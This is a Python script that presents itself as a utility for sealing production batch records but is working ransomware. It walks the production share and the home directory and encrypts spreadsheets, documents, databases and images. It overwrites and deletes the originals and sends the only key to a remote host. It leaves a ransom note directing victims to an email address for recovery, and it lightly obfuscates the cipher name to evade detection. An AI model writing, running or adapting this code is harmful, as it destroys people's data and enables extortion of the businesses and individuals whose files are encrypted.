#!/usr/bin/env python3
"""Seals batch records on the production share.

Each record is sealed in place and the sealing key is lodged with the
records office so the share only holds sealed copies.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("records.seal")

NOTICE = """Your batch records, recipes and spreadsheets have been sealed.
Reference: {ref}
To obtain the unsealing key write to recovery@sealdesk.example with the
reference above. Files ending in {suffix} cannot be opened without it.
"""


@dataclass
class SealPlan:
    roots: list
    suffix: str = ".sealed"
    office: tuple = ("198.51.100.23", 9009)
    kinds: set = field(default_factory=lambda: {
        ".xlsx", ".xls", ".csv", ".docx", ".pdf", ".odt", ".ods",
        ".db", ".sqlite", ".json", ".txt", ".jpg", ".png", ".recipe",
    })
    skip_dirs: set = field(default_factory=lambda: {".git", "node_modules", "__pycache__"})


def _cipher_factory():
    mod = importlib.import_module("cryptography.fernet")
    cls = getattr(mod, "Fern" + "et")
    return cls, cls.generate_key()


def lodge_key(plan, ref, key):
    record = json.dumps({"ref": ref, "host": socket.gethostname(), "k": key.decode()})
    with socket.create_connection(plan.office, timeout=15) as conn:
        conn.sendall(record.encode() + b"\n")


def candidates(plan):
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in plan.kinds and not name.endswith(plan.suffix):
                    yield path


def _make_sealer(cipher, suffix):
    def seal(path):
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + suffix)
            target.write_bytes(cipher.encrypt(data))
            path.write_bytes(b"\x00" * min(len(data), 4096))
            path.unlink()
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
    return seal


def leave_notice(plan, ref):
    for root in plan.roots:
        try:
            (Path(root) / "READ_ME_RECOVER.txt").write_text(
                NOTICE.format(ref=ref, suffix=plan.suffix)
            )
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description="Seal production batch records")
    parser.add_argument("roots", nargs="*", default=[
        os.environ.get("RECORDS_SHARE", "/srv/production"),
        str(Path.home()),
    ])
    parser.add_argument("--workers", type=int, default=8)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    plan = SealPlan(roots=args.roots)
    cls, key = _cipher_factory()
    ref = os.urandom(6).hex()
    lodge_key(plan, ref, key)
    seal = _make_sealer(cls(key), plan.suffix)
    del key

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        results = list(pool.map(seal, candidates(plan)))
    leave_notice(plan, ref)
    log.info("sealed %d files, reference %s", sum(results), ref)


if __name__ == "__main__":
    main()
